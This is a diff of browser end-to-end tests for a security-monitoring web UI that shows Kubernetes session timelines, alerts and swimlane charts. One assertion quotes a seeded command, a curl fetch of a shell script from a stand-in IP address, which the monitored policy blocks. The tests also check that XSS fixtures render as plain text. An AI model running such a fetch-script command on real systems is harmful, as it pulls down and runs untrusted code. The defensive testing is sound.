@@ -8,6 +8,8 @@ import { startHttpServer, type HttpServer } from '../../src/api/server.ts';
 import { silentLogger } from '../../src/observe/log.ts';
 import { createMetrics } from '../../src/observe/metrics.ts';
 import type { Database } from '../../src/store/database.ts';
+import type { Timeline } from '../../src/timeline/assemble.ts';
+import type { SessionDetail } from '../../src/timeline/queries.ts';
 import { backends, createTestDatabase, skipReason, type BackendName } from '../support/databases.ts';
 import { UA_XSS, writeScenario, XSS, type Scenario } from '../timeline/scenario.ts';
 import { chromiumSkipReason, launchChromium } from './chromium.ts';
@@ -84,7 +86,7 @@ for (const backend of backends) {
       await page.evaluate(() => (document.body.dataset.ready = 'false'));
       await page.click('#filters button[type=submit]');
       await rendered(page);
-      assert.match(page.url(), /#\/\?user=alice&/);
+      assert.match(page.url(), /#\/\?user=alice$/, 'no window unless one is chosen: the newest sessions, however old');
       assert.deepEqual(await page.locator('table.sessions tbody tr td:nth-child(2)').allTextContents(), ['alice']);
     });
 
@@ -124,7 +126,30 @@ for (const backend of backends) {
       const blocked = page.locator('ul.tree .event.alert.block');
       assert.equal(await blocked.count(), 1);
       assert.match((await blocked.textContent())!, /ALERT Block.*\/usr\/bin\/curl.*policy block-curl-in-shop · severity 8 · curl is not allowed in shop pods · Permission denied/);
-      assert.equal(await page.locator('section.alerts .event.alert.block').count(), 1, 'alerts are listed on their own too');
+      assert.match((await page.locator('p.summary').first().textContent())!, /^6 processes, 1 alert1 Block$/);
+
+      // Each linked event is listed once, and every one is: the API's activity, key for key.
+      const detail = (await (await fetch(`${server.url}/api/v1/sessions/${encodeURIComponent(scenario.ids.alice)}`)).json()) as SessionDetail;
+      const listed = await page.locator('#app > :not(#pod-context) :not(svg *)[data-event]').evaluateAll((els) => els.map((el) => el.getAttribute('data-event')!));
+      const seen = new Map<string, number>();
+      for (const key of listed) seen.set(key, (seen.get(key) ?? 0) + 1);
+      assert.deepEqual([...seen].filter(([, n]) => n !== 1), [], 'no event shown twice');
+      assert.deepEqual([...seen.keys()].sort(), detail.activity.map((e) => e.eventKey).sort());
+
+      // One swimlane, this session's, with a mark per process and per alert of the session.
+      const lanes = page.locator('#app svg.swimlanes g.lane[data-session]');
+      assert.equal(await lanes.count(), 1);
+      assert.equal(await lanes.getAttribute('data-session'), scenario.ids.alice);
+      assert.equal(await lanes.locator('[data-mark=process]').count(), detail.session.processCount);
+      assert.equal(await lanes.locator('[data-mark=alert]').count(), detail.session.alertCount);
+      assert.equal(await lanes.locator('[data-mark=alert].block').count(), 1);
+      const markKeys = await lanes.locator('[data-mark]').evaluateAll((els) => els.map((el) => el.getAttribute('data-event')));
+      assert.ok(markKeys.every((key) => seen.has(key!)), 'every mark is one of the listed events');
+      // Marks are placed in time: the first process left of the Block alert, which is left of the last process.
+      const xs = await lanes.locator('[data-mark]').evaluateAll((els) => els.map((el) => [el.getAttribute('data-mark'), el.getBoundingClientRect().x] as const));
+      const processXs = xs.filter(([k]) => k === 'process').map(([, x]) => x);
+      const alertX = xs.find(([k]) => k === 'alert')![1];
+      assert.ok(Math.min(...processXs) < alertX && alertX < Math.max(...processXs), `process marks ${processXs}, alert at ${alertX}`);
 
       // Attacker-shaped text is shown as text: no element came from it, no handler ran.
       assert.equal(await page.locator('img').count(), 0);
@@ -136,7 +161,9 @@ for (const backend of backends) {
       const denied = page.locator('#pod-context tr.denied');
       assert.equal(await denied.count(), 1);
       assert.match((await denied.textContent())!, /DENIED attempt.*bob.*interactive exec into shop\/web-0 container web from 198\.51\.100\.7.*denied 403/);
-      assert.ok((await page.locator('#pod-context tr.current').count()) >= 8);
+      const contextKeys = await page.locator('#pod-context [data-event]').evaluateAll((els) => els.map((el) => el.getAttribute('data-event')));
+      assert.deepEqual(contextKeys.filter((key) => seen.has(key!)), [], "the pod context leaves out this session's own events");
+      assert.equal(await page.locator('#pod-context tr.current').count(), 2, 'this session is marked where it opened and ended');
       await screenshot(page, 'session', backend);
     });
 
@@ -162,9 +189,73 @@ for (const backend of backends) {
       assert.equal(await page.locator('tr.alert.block td:nth-child(2) .badge.block').textContent(), 'ALERT Block');
       assert.match((await page.locator('tr.alert.block td:last-child').textContent())!, /^\/usr\/bin\/curl -s http:\/\/198\.51\.100\.9\/x\.sh pid 4020 policy block-curl-in-shop · severity 8/);
       assert.match((await page.locator('p.summary').textContent())!, /^2 sessions \(1 interactive\), 1 denied attempt, 8 processes, 2 alerts1 Block$/);
+
+      // A swimlane per session in the window, with its processes and alerts as marks; what the API says.
+      const timeline = (await (await fetch(`${server.url}/api/v1/timeline?${query}`)).json()) as Timeline;
+      const lanes = page.locator('svg.swimlanes g.lane[data-session]');
+      assert.deepEqual(await lanes.evaluateAll((gs) => gs.map((g) => g.getAttribute('data-session'))), timeline.sessions.map((session) => session.id));
+      for (const session of timeline.sessions) {
+        const lane = page.locator(`svg.swimlanes g.lane[data-session="${session.id}"]`);
+        for (const kind of ['process', 'alert'] as const) {
+          const expected = timeline.entries.filter((e) => e.kind === kind && e.sessionId === session.id).length;
+          assert.equal(await lane.locator(`[data-mark=${kind}]`).count(), expected, `${session.user}: ${kind} marks`);
+        }
+        assert.equal(await lane.locator('[data-mark=denied]').count(), session.allowed ? 0 : 1, `${session.user}: denied mark`);
+      }
+      const unattributed = timeline.entries.filter((e) => e.kind === 'alert' && e.sessionId === null).length;
+      assert.equal(await page.locator('svg.swimlanes g.lane.unattributed [data-mark=alert]').count(), unattributed);
+      assert.equal(await page.locator('svg.swimlanes [data-mark=process]').count(), timeline.summary.processes);
+      assert.equal(await page.locator('svg.swimlanes [data-mark=alert]').count(), timeline.summary.alerts);
       await screenshot(page, 'timeline', backend);
       assert.equal(await page.locator('#app').evaluate((app) => [...app.childNodes].some((n) => n.nodeType === Node.TEXT_NODE && n.textContent!.trim())), false, 'no stray text');
       assert.deepEqual(consoleErrors, [], 'no script error on any page');
+    });
+
+    it('has window, namespace and pod controls on the pod timeline', async () => {
+      await go(page, `${server.url}/#/timeline`);
+      assert.equal(await page.locator('h1').textContent(), 'Pod timeline', 'the header link opens the controls');
+      await page.fill('#timeline-filters input[name=namespace]', 'staging');
+      await page.fill('#timeline-filters input[name=pod]', 'web-0');
+      await page.fill('#timeline-filters input[name=from]', scenario.window.from);
+      await page.fill('#timeline-filters input[name=to]', scenario.window.to);
+      await page.evaluate(() => (document.body.dataset.ready = 'false'));
+      await page.click('#timeline-filters button[type=submit]');
+      await rendered(page);
+      assert.equal(await page.locator('h1').textContent(), 'Pod staging/web-0');
+      assert.deepEqual(await page.locator('svg.swimlanes g.lane[data-session]').evaluateAll((gs) => gs.map((g) => g.getAttribute('data-session'))), [scenario.ids.dave]);
+      assert.equal(await page.inputValue('#timeline-filters input[name=namespace]'), 'staging', 'the controls show the window drawn');
+
+      // "earlier" moves the window back by its own length: before the scenario, nothing.
+      await page.evaluate(() => (document.body.dataset.ready = 'false'));
+      await page.click('p.window a.earlier');
+      await rendered(page);
+      const shifted = new URLSearchParams(new URL(page.url()).hash.split('?')[1]);
+      const length = Date.parse(scenario.window.to) - Date.parse(scenario.window.from);
+      assert.equal(Date.parse(shifted.get('to')!), Date.parse(scenario.window.to) - length);
+      assert.equal(await page.locator('svg.swimlanes').count(), 0);
+      assert.equal(await page.locator('#app p.muted', { hasText: 'No sessions, denied attempts or alerts in this window.' }).count(), 1);
+    });
+
+    it('fits a 420 px screen: no sideways scrolling, tables as cards with their column names, the chart inside', async () => {
+      const narrow = await browser!.newPage({ viewport: { width: 420, height: 900 } });
+      try {
+        const query = new URLSearchParams({ namespace: 'shop', pod: 'web-0', ...scenario.window });
+        for (const [name, hash] of [['sessions', '#/'], ['session', `#/session/${encodeURIComponent(scenario.ids.alice)}`], ['timeline', `#/timeline?${query}`]] as const) {
+          await go(narrow, `${server.url}/${hash}`);
+          if (name === 'session') await narrow.locator('#pod-context table.timeline').waitFor();
+          const widths = await narrow.evaluate(() => ({ page: document.documentElement.scrollWidth, body: document.body.scrollWidth, viewport: window.innerWidth }));
+          assert.ok(widths.page <= widths.viewport && widths.body <= widths.viewport, `${name}: content ${widths.page}px wide in a ${widths.viewport}px screen`);
+          const offside = await narrow.locator('#app *').evaluateAll((els) => els.filter((el) => el.getBoundingClientRect().right > window.innerWidth + 0.5).map((el) => el.tagName + '.' + el.getAttribute('class')));
+          assert.deepEqual(offside, [], `${name}: nothing drawn past the right edge`);
+          const firstCell = narrow.locator('#app table tbody td').first();
+          assert.equal(await firstCell.evaluate((td) => getComputedStyle(td, '::before').content), JSON.stringify(await firstCell.getAttribute('data-label')), `${name}: cells show their column name`);
+          await screenshot(narrow, `${name}-420px`, backend);
+        }
+        const svgBox = await narrow.locator('svg.swimlanes').boundingBox();
+        assert.ok(svgBox && svgBox.x >= 0 && svgBox.x + svgBox.width <= 420, `the chart fits: ${JSON.stringify(svgBox)}`);
+      } finally {
+        await narrow.close();
+      }
     });
 
     it('asks for the API token when the server requires one, then shows the sessions', async () => {
